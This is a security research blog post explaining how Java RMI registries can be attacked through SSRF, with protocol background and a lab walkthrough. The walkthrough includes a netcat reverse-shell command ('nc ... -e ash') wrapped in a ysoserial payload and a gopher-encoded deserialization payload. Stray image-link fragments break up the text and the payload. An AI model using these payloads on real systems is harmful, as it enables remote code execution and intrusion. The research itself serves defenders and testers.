During the last couple of years, SSRF vulnerabilities have become more and more popular and several high impact vulnerabilities have been identified. Possible targets in the backend range from HTTP based services like Solr, over cloud metadata services, up to more exotic targets likeredis databases. In this blog post we discuss the SSRFibility of Java RMI and demonstrate how RMI services can be targeted via SSRF.

The SSRFibility of Java RMI

Java RMI is an object oriented RPC (Remote Procedure Call) mechanism that is available by default in most Java installations. Developers can use Java RMI to create remote objects that expose their functions on the network and allow remote clients to call them. Java RMI communication relies on serialized Java objects, which makes the protocol a prime target for attackers. Over the last couple of years, the security of Java RMI has vastly improved, but vulnerable endpoints are still encountered quite frequently. Moreover, even a fully patched RMI service can yield as an entry point for attackers when the available remote objects expose dangerous methods [1].

If you ever implemented something using Java RMI, you probably doubt that the protocol can be targeted by SSRF attacks. For those who never used Java RMI in practice, here is a short example how a typical RMI client looks like:

import java.rmi.registry.Registry;
import java.rmi.registry.LocateRegistry;
import eu.tneitzel.rmi.interfaces.RemoteService;

public class ExampleClient {

  private static final String remoteHost = "";
  private static final String boundName = "remote-service";public static void main(String[] args)
    try {
      Registry registry = LocateRegistry.getRegistry(remoteHost);
      RemoteService ref = (RemoteService)registry.lookup(boundName);
      String response = ref.remoteMethod();
    } catch( Exception e) {

This code snipped does basically the following:

  1. Connect to an RMI registry (a name service for Java RMI, comparable to DNS)
  2. Lookup the name remote-service to obtain a reference to the remote object
  3. Call the remoteMethod function on the remote object

Despite ref is an object created in your local Java Virtual Machine, calls on this object are forwarded to the RMI server. This demonstrates that Java RMI uses an object oriented RPC mechanism, where local objects are used to consume remote services. This object oriented RPC implementation creates the impression of a strong coupling between the localobjects and the remote service, which makes SSRF attacks seem impossible. But this is not the case as the RMI protocol is, like HTTP, a stateless protocol and there is only a loosely coupling between local objects and remote services. But we go ahead of ourselves and should start with the RMI registry.

The RMI Registry

The RMI registry is a naming service that is often used to make RMI services available on the network. In order to connect to a remote object, clients usually need a certain amount of information:

  • The IP address and TCP port the remote object is available on
  • The class or interface that is implemented by the remote object
  • The ObjID value of the remote object (an internal identifier)

All this information is stored within the RMI registry and can be accessed under a human readable name (bound name). In the example above, we looked up the human readable name remote-service from the RMI registry and obtained a reference to the corresponding remote object. This reference stores all the required information for remote procedure calls and forwards method invocations to the remote object.

An important detail is now, that the RMI registry is a remote object itself, but in contrast to the RemoteService remote object, the RMI registry is a well known remote object. This means, that the implemented class and the assigned ObjID are fixed and known by RMI clients. Hence, to communicate with the RMI registry, only the IP address and the TCP port are required. This makes the RMI registry an easier target for SSRF attacks.The Java RMI Protocol

Whether or not RMI services can be targeted by SSRF attacks depends on the structure of the RMI protocol. In the following diagram I tried to visualize how a typical RMI communication looks like:

Java RMI Protocol

The typical RMI communication consists out of a handshake and one or more method calls. During the handshake, some static data and information on the server and client host are exchanged. It is worth noting that none of the exchanged information depends on previously received data. Therefore, it is possible to predict all values that are used during handshake, which will be important when performing SSRF attacks.After the handshake completed, the client can start to dispatch method calls. It is generally possible to dispatch multiple method calls in one communication channel, but apart from reducing the amount of network traffic, it does not has any benefits. As mentioned previously, the RMI protocol is stateless and it makes no difference whether multiple calls are dispatched in one or within multiple communication channels.

From the SSRF perspective, the handshake part of the RMI protocol looks problematic. SSRF vulnerabilities usually only allow a one shot kind of attackand interactive communication like a handshake is not possible. In the case of Java RMI however, the handshake does not matter, as the RMI server reads data one by one from the underlying TCP stream. This allows the client to send all required data right at the beginning without waiting for any server responses. The following diagram shows the RMI protocol again, but this time how it would be utilized during an SSRF attack:

Java RMI Protocol during SSRF

Another problem we have not talked about so far are data types. It should be obvious that a basic HTTP based SSRF vulnerability cannot be utilized to perform SSRF attacks on RMI services. Already the first few bytes (the RMI magic) would cause an corrupted stream and lead to an error on the RMI service. Instead, you need to be able to send arbitrary bytes to the target RMIservice. Especially null bytes need to be allowed, which causes problems even with gopher based SSRF attacks on newer curl versions [2]. However, when this condition is met and you can send arbitrary data to the RMI service, you can dispatch calls as with a direct connection.

The Single Operation Protocol

Readers that are familiar with the RMI internals may ask why we did not talk about the Single Operation Protocol so far. After sending the RMI magic and the protocol version to the server, RMI clients send one additional byte that indicates the protocol variant they want to use. Java RMI currently defines three different protocol variants:

  • Stream Protocol
  • Single Operation Protocol• Multiplex Protocol

Whereas the Multiplex Protocol is no longer supported, the Stream and Single Operation Protocol are supported on each RMI endpoint. In our previous discussion we only talked about the Stream Protocol, which has the characteristic of allowing multiple RMI calls within one communication channel. The Single Operation Protocol, on the other hand, only allows asingle RMI call per connection and is therefore the preferred choice when performing SSRF attacks.

The following diagram shows the data flow of the Single Operation Protocol:

Single Operation Protocol

The problem with the Single Operation Protocol is that it lacks client side support within default Java RMI implementations. Java RMI decides automatically whether to use the Single Operation or Stream Protocol depending on the underlying connection type. If the underlying connection type is reusable, the Stream Protocol is used. The only connection type that shipped by default is the TCPConnection class, that contains the following function definition:

public boolean isReusable()
    return true;

This makes it difficult to modify the protocol type, even when using reflection.

In the following chapters, we use remote-method-guesser [3] to generate SSRF payloads. Despite the tool is written in Java and consumes the default Java RMI implementation, it uses a custom socket factory to convert SSRF payloads from Stream to Single Operation Protocol. This is the defaultbehavior that is used within the following examples, but you can also generate Stream Protocol payloads using the --stream-protocol option.

Concerning the SSRFibility of Java RMI, where is not a big different between Stream and Single Operation Protocol and both can be used to launch SSRF attacks. Using the Stream Protocol, I expected some problems with idle connections, as the RMI server may wait for additional RMI calls after processing the initial call supplied via SSRF. However, during my tests I never observed this behavior.

The ObjID Problem

Performing an SSRF attack on Java RMI requires the client to know all data that needs to be send to the RMI server in advance. This is possible for well known RMI services with a fixed ObjID value like the RMI registry (ObjID = 0), the Activation System (ObjID = 1) or the Distributed Garbage Collector (ObjID = 2). Other remote objects get a random ObjID assigned when they are bound to a TCP port. Guessing an ObjID is basically impossible, as it consists out of the following components:

  • objNum - A random long value created by SecureRandom (set once per object)
  • UID - Compound Object
    • unique- A random int value created by SecureRandom (set once per host)
    • time - A timestamp created during export as int value
    • count - An incrementing short starting at Short.MIN_VALUEGetting the ObjID value for a remote object is one of the reasons why RMI clients usually need to talk to an RMI registry before they can use the RMI service.

Are SSRF attacks on custom RMI endpoints impossible now? Well, not completely impossible, but they require an SSRF vulnerability with even more capabilities as discussed previously. Instead of performing a one shot attack, we now need at least two shots:1. Use the SSRF vulnerability to perform a lookup call on the RMI registry
  2. Use the obtained ObjID value to target the remote object via SSRF

For this to work we obviously need an SSRF vulnerability that returns data obtained from the targeted endpoint. Furthermore, the SSRF need to allow arbitrary bytes within the returned data, including null bytes. SSRF vulnerabilities with these properties are extremely rare, but when all conditions are satisfied, you can consume any RMI service as with a direct connection.

Attacking the RMI Registry

To demonstrate the SSRFibility of the Java RMI protocol, we will now attack an RMI registry endpoint using a webapplication that is vulnerable to SSRF attacks. In order to make this as comfortable as possible, we use remote-method-guesser [3], a Java RMI vulnerability scanner with integrated SSRF support. The remote-method-guesser repository also contains an SSRF example server [4] that we can use for demonstration purposes. The setup for the following demonstration looks like this:

  • HTTP service vulnerable to SSRF within the url parameter on
  • RMI registry listening at localhost:1090 on the remote server
  • Outdated Java version that is vulnerable to RMI registry deserialization bypasses
  • CommonsCollections3.1 being available on the RMI application’sclasspath
  • The SSRF vulnerability is curl based and allows null bytes within the gopher protocol

We start of with a nmap scan to demonstrate that no RMI ports are exposed directly by the application server:

$ nmap -p- -n
Starting Nmap 7.92 ( https://nmap.org ) at 2021-12-20 07:57 CET
Nmap scan report for
Host is up (0.000094s latency).
Not shown: 65534 closed tcp ports (conn-refused)
8000/tcp open  http-alt

Nmap done: 1 IP address (1 host up) scanned in 1.50 secondsTo demonstrate the SSRF vulnerability, we just use a plain HTTP callback:

$ curl ''
$ python3 -m http.server
Serving HTTP on port 8000 ( ... - - [20/Dec/2021 08:01:20] "GET /PoC HTTP/1.1" 200 -

Now we perform a deserialization attack on the RMI registry. The Java version on the application server already implements deserialization filters for registry communication, but it is vulnerable to known deserialization filter bypasses. These bypasses work by creating an outbound RMI connection to an attacker controlled server. This outbound connection is no longer protected by deserialization filters and can be used to achieve arbitrary deserialization.

First we create the required listeners: One for the incoming RMI connection, the other for the incoming shell:

$ rmg listen 4444 CommonsCollections6 'nc 4445 -e ash'
[+] Creating ysoserial payload... done.
[+] Creating a JRMPListener on
[+] Handing off to ysoserial...

$ nc -vlp 4445
Ncat:Version 7.92 ( https://nmap.org/ncat )
Ncat: Listening on :::4445
Ncat: Listening on

Now we create the SSRF payload. Creating SSRF payloads with remote-method-guesser is quite simple. Almost each operation supports the --ssrf option. With this option set, instead of performing the requested operation on a remote server, a corresponding SSRF payload is generated. For our purpose we need to target the RMI registry on the remote server which listens on localhost:1090. Furthermore, we use the AnTrinh payload [5], which is the most recent deserialization filter bypass for the RMI registry:

$ rmg serial 1090 AnTrinh --component reg --ssrf --gopher --encode
[+] Attempting deserialization attack on RMI Registry endpoint...
[+]     SSRF Payload:gopher%3A%2F%2F127.0.0.1%3A1090%2F_%254a%2552%254d%2549%2500%2502%254c%2550%25ac%25ed%2500%2505%2577%2522%2500%2500%2500%2500%2500%2500%2500%2500%2500%2500%2500%2500%2500%2500%2500%2500%2500%2500%2500%2500%2500%2500%2500%2500%2500%2502%2544%2515%254d%25c9%25d4%25e6%253b%25df%2573%2572%2500%2523%256a%2561%2576%2561%252e%2572%256d%2569%252e%2573%2565%2572%2576%2565%2572%252e%2555%256e%2569%2563%2561%2573%2574%2552%2565%256d%256f%2574%2565%254f%2562%256a%2565%2563%2574%2545%2509%2512%2515%25f5%25e2%257e%2531%2502%2500%2503%2549%2500%2504%2570%256f%2572%2574%254c%2500%2503%2563%2573%2566%2574%2500%2528%254c%256a%2561%2576%2561%252f%2572%256d%2569%252f%2573%2565%2572%2576%2565%2572%252f%2552%254d%2549%2543%256c%2569%2565%256e%2574%2553%256f%2563%256b%2565%2574%2546%2561%2563%2574%256f%2572%2579%253b%254c%2500%2503%2573%2573%2566%2574%2500%2528%254c%256a%2561%2576%2561%252f%2572%256d%2569%252f%2573%2565%2572%2576%2565%2572%252f%2552%254d%2549%2553%2565%2572%2576%2565%2572%2553%256f%2563%256b%2565%2574%2546%2561%2563%2574%256f%2572%2579%253b%2570%2578%2572%2500%251c%256a%2561%2576%2561%252e%2572%256d%2569%252e%2573%2565%2572%2576%2565%2572%252e%2552%2565%256d%256f%2574%2565%2553%2565%2572%2576%2565%2572%25c7%2519%2507%2512%2568%25f3%2539%25fb%2502%2500%2500%2570%2578%2572%2500%251c%256a%2561%2576%2561%252e%2572%256d%2569%252e%2573%2565%2572%2576%2565%2572%252e%2552%2565%256d%256f%2574%2565%254f%2562%256